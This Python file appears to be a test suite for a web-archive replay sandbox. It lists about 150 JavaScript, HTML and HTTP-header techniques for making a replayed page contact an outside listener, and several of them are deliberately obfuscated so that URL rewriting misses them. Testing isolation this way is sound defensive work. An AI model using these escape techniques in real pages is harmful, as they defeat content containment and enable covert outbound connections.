"""Ways out of a replayed page that we could think of. {L}: http://ADDRESS:PORT of a listener of this way alone, {A}: ADDRESS:PORT."""

# Scripts: L is the listener's URL, put(markup) appends markup past the page's own shims, add(tag, attributes) an element.
PRELUDE = """
const A = "{A}", L = "htt" + "p://" + A + "/x", W = "w" + "s://" + A + "/x", S = "htt" + "ps://" + A + "/x", LOC = "loca" + "tion";
const attr = (e, n, v) => { const a = document.createAttributeNS(n.startsWith("xlink:") ? "http://www.w3.org/1999/xlink" : null, n); a.value = v; e.setAttributeNode(a); return e; };
const add = (tag, attributes = {}, text = "", ns = "http://www.w3.org/1999/xhtml") => { const e = document.createElementNS(ns, tag);
  for (const n in attributes) attr(e, n, attributes[n]); if (text) e.textContent = text; document.body.append(e); return e; };
const SVG = "http://www.w3.org/2000/svg", MATH = "http://www.w3.org/1998/Math/MathML";
const click = (e) => e.dispatchEvent(new MouseEvent("click", { bubbles: true, cancelable: true, composed: true }));
const run = (f) => `<scr` + `ipt>const A = ${JSON.stringify(A)}, L = ${JSON.stringify(L)}, W = ${JSON.stringify(W)}, LOC = "loca" + "tion"; (${f})()</scr` + `ipt>`;
const frame = (html) => add("iframe", { srcdoc: html });
const blob = (text, type) => URL.createObjectURL(new Blob([text], { type }));
"""

SCRIPTS = {
    # the location, by names that no rewriting sees
    "reflect get": "Reflect.get(window, LOC).href = L",
    "reflect set": "Reflect.set(window, LOC, L)",
    "eval": "(0, eval)(LOC + '.href = ' + JSON.stringify(L))",
    "function": "Function('l', 'this[l].assign(' + JSON.stringify(L) + ')')(LOC)",
    "document": "document[LOC] = L",
    "destructured": "const { [LOC]: l } = window; l.replace(L)",
    "descriptor": "Object.getOwnPropertyDescriptor(window, LOC).set.call(window, L)",
    "self": "self[LOC] = L",
    "frames": "frames[LOC].hostname = A.split(':')[0]; frames[LOC] = L",
    "global": "globalThis[LOC].assign(L)",
    "constructor": "[].constructor.constructor('return this')()[LOC] = L",
    "timer text": "setTimeout(LOC + '.href = ' + JSON.stringify(L), 0)",
    "default view": "document.defaultView[LOC] = L",
    "native frame": "const f = add('iframe'); f.contentWindow.parent[LOC] = L",
    "native frame setter": "const f = add('iframe'); Object.getOwnPropertyDescriptor(f.contentWindow, LOC).set.call(window, L)",
    "top": "window['to' + 'p'][LOC] = L",
    "parent": "window['par' + 'ent'][LOC] = L",
    "navigation": "navigation.navigate(L)",
    "history": "try { history.pushState(0, '', L) } catch {} history.replaceState(0, '', L); history.go(0)",
    "javascript url": "window[LOC] = 'javascript:void(window[\"loca\" + \"tion\"] = ' + JSON.stringify(L) + ')'",
    "open": "window.open(L)",
    "open self": "add('iframe').contentWindow.open.call(window, L, '_self')",
    "open named": "window.open(L, 'somewhere')",
    "open frame": "add('iframe', { name: 'inner' }); window.open(L, 'inner')",
    # links and forms
    "link": "click(add('a', { href: L }, 'x'))",
    "link blank": "click(add('a', { href: L, target: '_blank' }, 'x'))",
    "link top": "click(add('a', { href: L, target: '_top' }, 'x'))",
    "link download": "click(add('a', { href: L, download: '' }, 'x'))",
    "link base": "add('base', { href: L }); click(add('a', { href: 'y' }, 'x'))",
    "ping": "click(add('a', { href: '#y', ping: L }, 'x'))",
    "attribution": "add('img', { attributionsrc: L, src: 'data:,' }); click(add('a', { href: '#y', attributionsrc: L }, 'x'))",
    "area": "add('map', { name: 'm' }).append(attr(document.createElement('area'), 'href', L)); click(document.querySelector('area'))",
    "form": "HTMLFormElement.prototype.submit.call(add('form', { action: L }))",
    "form post": "HTMLFormElement.prototype.submit.call(add('form', { action: L, method: 'post' }))",
    "form request": "add('form', { action: L }).requestSubmit()",
    "form blank": "HTMLFormElement.prototype.submit.call(add('form', { action: L, target: '_blank' }))",
    "form button": "const f = add('form'); f.append(attr(document.createElement('button'), 'formaction', L)); click(f.firstChild)",
    "svg link": "click(add('svg', {}, '', SVG).appendChild(attr(document.createElementNS(SVG, 'a'), 'xlink:href', L)))",
    "svg plain link": "click(add('svg', {}, '', SVG).appendChild(attr(document.createElementNS(SVG, 'a'), 'href', L)))",
    "svg animated link": "document.body.insertAdjacentHTML('beforeend', '<svg><a id=sa href=\"#\"><animate attributeName=href values=\"' + L + '\" fill=freeze dur=1ms /></a></svg>'); setTimeout(() => click(sa), 100)",
    "svg set link": "document.body.insertAdjacentHTML('beforeend', '<svg><a id=sb><set attributeName=xlink:href to=\"' + L + '\"/></a></svg>'); setTimeout(() => click(sb), 100)",
    "svg use": "add('svg', {}, '', SVG).append(attr(document.createElementNS(SVG, 'use'), 'href', L + '#x'))",
    "svg image": "add('svg', {}, '', SVG).append(attr(document.createElementNS(SVG, 'image'), 'xlink:href', L))",
    "svg filter": "add('svg', {}, '', SVG).append(attr(document.createElementNS(SVG, 'feImage'), 'href', L))",
    "svg script": "add('svg', {}, '', SVG).append(attr(document.createElementNS(SVG, 'script'), 'href', L))",
    "math link": "click(add('math', {}, '', MATH).appendChild(attr(document.createElementNS(MATH, 'mrow'), 'href', L)))",
    # what goes by itself
    "refresh": "document.head.append(attr(attr(document.createElement('meta'), 'http-equiv', 'refresh'), 'content', '0;url=' + L))",
    "refresh written": "document.open(); document.write('<meta http-equiv=refresh content=\"0;url=' + L + '\">'); document.close()",
    "speculate prefetch": "add('script', { type: 'speculationrules' }, JSON.stringify({ prefetch: [{ urls: [L], eagerness: 'immediate' }] }))",
    "speculate prerender": "add('script', { type: 'speculationrules' }, JSON.stringify({ prerender: [{ urls: [L], eagerness: 'immediate' }] }))",
    **{f"link {rel}": f"add('link', {{ rel: '{rel}', href: L, as: 'image' }})" for rel in (
        "preconnect", "dns-prefetch", "prefetch", "prerender", "preload", "modulepreload", "stylesheet", "icon", "manifest", "compression-dictionary",
        "expect", "next", "search")},
    "preconnect parsed": "document.body.append(document.importNode(new DOMParser().parseFromString('<svg xmlns=\"http://www.w3.org/2000/svg\"><link xmlns=\"http://www.w3.org/1999/xhtml\" rel=\"preconnect\" href=\"' + L + '\"/></svg>', 'image/svg+xml').documentElement, true))",
    "preconnect shadow": "const s = add('div').attachShadow({ mode: 'closed' }); const l = document.createElement('link'); attr(attr(l, 'rel', 'preconnect'), 'href', L); s.append(l)",
    "preconnect frame": "frame('<link rel=preconnect href=' + L + '>')",
    "preconnect native": "const d = add('iframe').contentDocument; const l = d.createElement('link'); l.rel = 'preconnect'; l.href = L; d.body.appendChild(l)",
    "preconnect moved": "const d = add('iframe').contentDocument; const l = d.createElement('link'); l.rel = 'preconnect'; l.href = L; d.defaultView.Node.prototype.appendChild.call(document.body, l)",
    # frames
    **{f"frame {tag}": f"add('{tag}', {{ {name}: L }})" for tag, name in (
        ("iframe", "src"), ("frame", "src"), ("object", "data"), ("embed", "src"), ("fencedframe", "src"), ("portal", "src"))},
    "frame srcdoc": "frame(run(() => { window[LOC] = L }))",
    "frame srcdoc refresh": "frame('<meta http-equiv=refresh content=\"0;url=' + L + '\">')",
    "frame srcdoc link": "frame('<a id=a href=' + L + '>x</a>' + run(() => document.getElementById('a').click()))",
    "frame srcdoc nested": "frame('<iframe src=' + L + '></iframe>')",
    "frame data": "add('iframe', { src: 'data:text/html,' + encodeURIComponent(run(() => { window[LOC] = L })) })",
    "frame data refresh": "add('iframe', { src: 'data:text/html,' + encodeURIComponent('<meta http-equiv=refresh content=\"0;url=' + L + '\">') })",
    "frame blob": "add('iframe', { src: blob(run(() => { window[LOC] = L }), 'text/html') })",
    "frame blob refresh": "add('iframe', { src: blob('<meta http-equiv=refresh content=\"0;url=' + L + '\">', 'text/html') })",
    "frame javascript": "add('iframe', { src: 'javascript:' + JSON.stringify(run(() => { window[LOC] = L })) })",
    "frame blank": "add('iframe').contentWindow[LOC] = L",
    "frame native fetch": "add('iframe').contentWindow.fetch(L, { mode: 'no-cors' })",
    "frame native socket": "new (add('iframe').contentWindow.WebSocket)(W)",
    "page data": "window[LOC] = 'data:text/html,' + encodeURIComponent(run(() => { window[LOC] = L }))",
    "page blob": "window[LOC] = blob(run(() => { window[LOC] = L }), 'text/html')",
    "page blob refresh": "window[LOC] = blob('<meta http-equiv=refresh content=\"0;url=' + L + '\">', 'text/html')",
    # requests
    "fetch": "fetch(L, { mode: 'no-cors' })",
    "fetch kept alive": "fetch(L, { mode: 'no-cors', keepalive: true, method: 'POST' })",
    "fetch later": "fetchLater(L, { activateAfter: 0 })",
    "beacon": "navigator.sendBeacon(L)",
    "request": "const x = new XMLHttpRequest(); x.open('GET', L); x.send()",
    "events": "new EventSource(L)",
    "socket": "new WebSocket(W)",
    "socket stream": "new WebSocketStream(W)",
    "transport": "new WebTransport(S)",
    "peer stun": "const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + A }] }); p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o))",
    "peer turn": "const p = new RTCPeerConnection({ iceServers: [{ urls: 'turn:' + A + '?transport=tcp', username: 'u', credential: 'c' }] }); p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o))",
    "peer native": "const p = new (add('iframe').contentWindow.RTCPeerConnection)({ iceServers: [{ urls: ['stun:' + A, 'turn:' + A + '?transport=tcp'], username: 'u', credential: 'c' }] }); p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o))",
    "import": "import(L)",
    "script": "add('script', { src: L })",
    "module": "add('script', { type: 'module' }, 'import ' + JSON.stringify(L))",
    "worker": "new Worker(blob(`fetch('${L}', { mode: 'no-cors' }); new WebSocket('${W}'); try { new EventSource('${L}') } catch {} importScripts('${L}')`, 'text/javascript'))",
    "worker data": "new Worker('data:text/javascript,' + encodeURIComponent(`fetch('${L}', { mode: 'no-cors' }); new WebSocket('${W}'); importScripts('${L}')`))",
    "worker module": "new Worker(blob(`import '${L}'`, 'text/javascript'), { type: 'module' })",
    "worker direct": "new Worker(L)",
    "worker nested": "new Worker(blob(`new Worker(URL.createObjectURL(new Blob([\"fetch('${L}', { mode: 'no-cors' })\"])))`, 'text/javascript'))",
    "worklet": "new AudioContext().audioWorklet.addModule(L); CSS.paintWorklet.addModule(L)",
    # styles and media
    "css import": "add('style', {}, '@import \"' + L + '\";')",
    "css url": "add('style', {}, 'body { background: url(' + L + ') }')",
    "css image set": "add('style', {}, 'body { background: image-set(\"' + L + '\" 1x); cursor: url(' + L + '), auto }')",
    "css font": "add('style', {}, '@font-face { font-family: q; src: url(' + L + ') } body { font-family: q }'); add('p', {}, 'words')",
    "css inline": "attr(document.body, 'style', 'background: url(' + L + ')')",
    "css sheet": "const s = new CSSStyleSheet(); s.replaceSync('body { border-image: url(' + L + ') 1 }'); document.adoptedStyleSheets = [s]",
    "css filter": "add('style', {}, 'body { filter: url(' + L + '#f); mask: url(' + L + '#m); clip-path: url(' + L + '#c) }')",
    "font face": "document.fonts.add(new FontFace('z', 'url(' + L + ')')); document.fonts.load('1em z')",
    "media": "add('img', { src: L }); add('img', { srcset: L + ' 1x' }); add('video', { poster: L, src: L, autoplay: '' }); add('audio', { src: L, autoplay: '' }); add('input', { type: 'image', src: L })",
    "track": "const v = add('video', { src: 'data:video/mp4,' }); v.append(attr(attr(document.createElement('track'), 'src', L), 'default', '')); v.textTracks[0].mode = 'showing'",
    "artwork": "navigator.mediaSession.metadata = new MediaMetadata({ artwork: [{ src: L }] })",
    # everything else that may name a server
    "xslt": "const d = (t) => new DOMParser().parseFromString(t, 'text/xml'); const x = new XSLTProcessor(); x.importStylesheet(d('<xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\"><xsl:import href=\"' + L + '\"/><xsl:template match=\"/\"><x><xsl:value-of select=\"document(\\'' + L + '\\')\"/></x></xsl:template></xsl:stylesheet>')); x.transformToFragment(d('<a/>'), document)",
    "policy report": "document.head.append(attr(attr(document.createElement('meta'), 'http-equiv', 'Content-Security-Policy'), 'content', 'img-src data:; report-uri ' + L)); add('img', { src: '/y.png' })",
    "service worker": "navigator.serviceWorker.register(L)",
    "credentials": "navigator.credentials.get({ identity: { providers: [{ configURL: S, clientId: '1' }] } })",
    "payment": "new PaymentRequest([{ supportedMethods: S }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).canMakePayment()",
    "presentation": "new PresentationRequest([S]).getAvailability()",
    "protocol handler": "navigator.registerProtocolHandler('web+x', L + '?%s')",
    "notification": "new Notification('x', { icon: L, image: L })",
    "install": "navigator.install(L)",
}

# Without a script: also tried where none runs, as a raw page of its own. The browser clicks on #go.
MARKUP = {
    "markup refresh": '<meta http-equiv=refresh content="0;url={L}/x">',
    "markup link": '<a id=go href="{L}/x">x</a>',
    "markup link blank": '<a id=go target=_blank href="{L}/x">x</a>',
    "markup ping": '<a id=go href="#y" ping="{L}/x">x</a>',
    "markup svg": '<svg width=100 height=100><a id=go xlink:href="{L}/x"><rect width=99 height=99 /></a></svg>',
    "markup svg animate": '<svg width=100 height=100><a id=go><animate attributeName=href values="{L}/x" fill=freeze dur=1ms /><rect width=99 height=99 /></a></svg>',
    "markup svg set": '<svg width=100 height=100><a id=go><set attributeName=xlink:href to="{L}/x" /><rect width=99 height=99 /></a></svg>',
    "markup math": '<math><mtext id=go href="{L}/x">link</mtext></math>',
    "markup base": '<base href="{L}/"><a id=go href="x">x</a><img src=y.png>',
    "markup form": '<form action="{L}/x"><button id=go>x</button></form>',
    "markup formaction": '<form><button id=go formaction="{L}/x">x</button></form>',
    "markup frame": '<iframe src="{L}/x"></iframe><object data="{L}/x"></object><embed src="{L}/x">',
    "markup srcdoc": "<iframe srcdoc='<meta http-equiv=refresh content=\"0;url={L}/x\">'></iframe>",
    "markup data": '<iframe src="data:text/html,<meta http-equiv=refresh content=0;url={L}/x>"></iframe>',
    "markup frameset": '</head><frameset><frame src="{L}/x"></frameset>',
    "markup hints": '<link rel=preconnect href="{L}"><link rel=dns-prefetch href="{L}"><link rel=prefetch href="{L}/x"><link rel=preload as=image href="{L}/x">'
    '<link rel="preconnect stylesheet" href="{L}/x"><link rel=prerender href="{L}/x">',
    "markup rules": '<script type=speculationrules>{"prefetch":[{"urls":["{L}/x"],"eagerness":"immediate"}],"prerender":[{"urls":["{L}/y"],"eagerness":"immediate"}]}</script>',
    "markup media": '<img src="{L}/x" srcset="{L}/y 2x"><video src="{L}/v" poster="{L}/p"></video><audio src="{L}/a" autoplay></audio><input type=image src="{L}/i">',
    "markup style": '<style>@import "{L}/x"; body { background: url({L}/y) } @font-face { font-family: q; src: url({L}/f) } p { font-family: q }</style><p>words',
    "markup script": '<script src="{L}/x"></script><script type=module src="{L}/y"></script>',
    "markup policy": '<meta http-equiv=Content-Security-Policy content="img-src data:; report-uri {L}/x"><img src=y.png>',
}

# Fields of the answer that was archived.
FIELDS = {
    "field link": 'Link: <{L}>; rel=preconnect, <{L}>; rel=dns-prefetch, <{L}/x>; rel=preload; as=image, <{L}/y>; rel=prefetch, <{L}/s>; rel=stylesheet',
    "field refresh": "Refresh: 0; url={L}/x",
    "field location": "Location: {L}/x",
    "field content location": "Content-Location: {L}/x",
    "field rules": 'Speculation-Rules: "{L}/x"',
    "field reports": 'Report-To: {"group":"default","max_age":99,"endpoints":[{"url":"{L}/x"}]}\r\nReporting-Endpoints: default="{L}/x"\r\n'
    'NEL: {"report_to":"default","max_age":99,"success_fraction":1}\r\nContent-Security-Policy: img-src data:; report-uri {L}/x; report-to default',
    "field policy": "Content-Security-Policy-Report-Only: default-src 'none'; report-uri {L}/x",
    "field allowlist": 'Connection-Allowlist: ("*://*:*/*")',
    "field source map": "SourceMap: {L}/x",
    "field alternative": 'Alt-Svc: h3="{A}"; ma=99, h2="{A}"; ma=99',
}
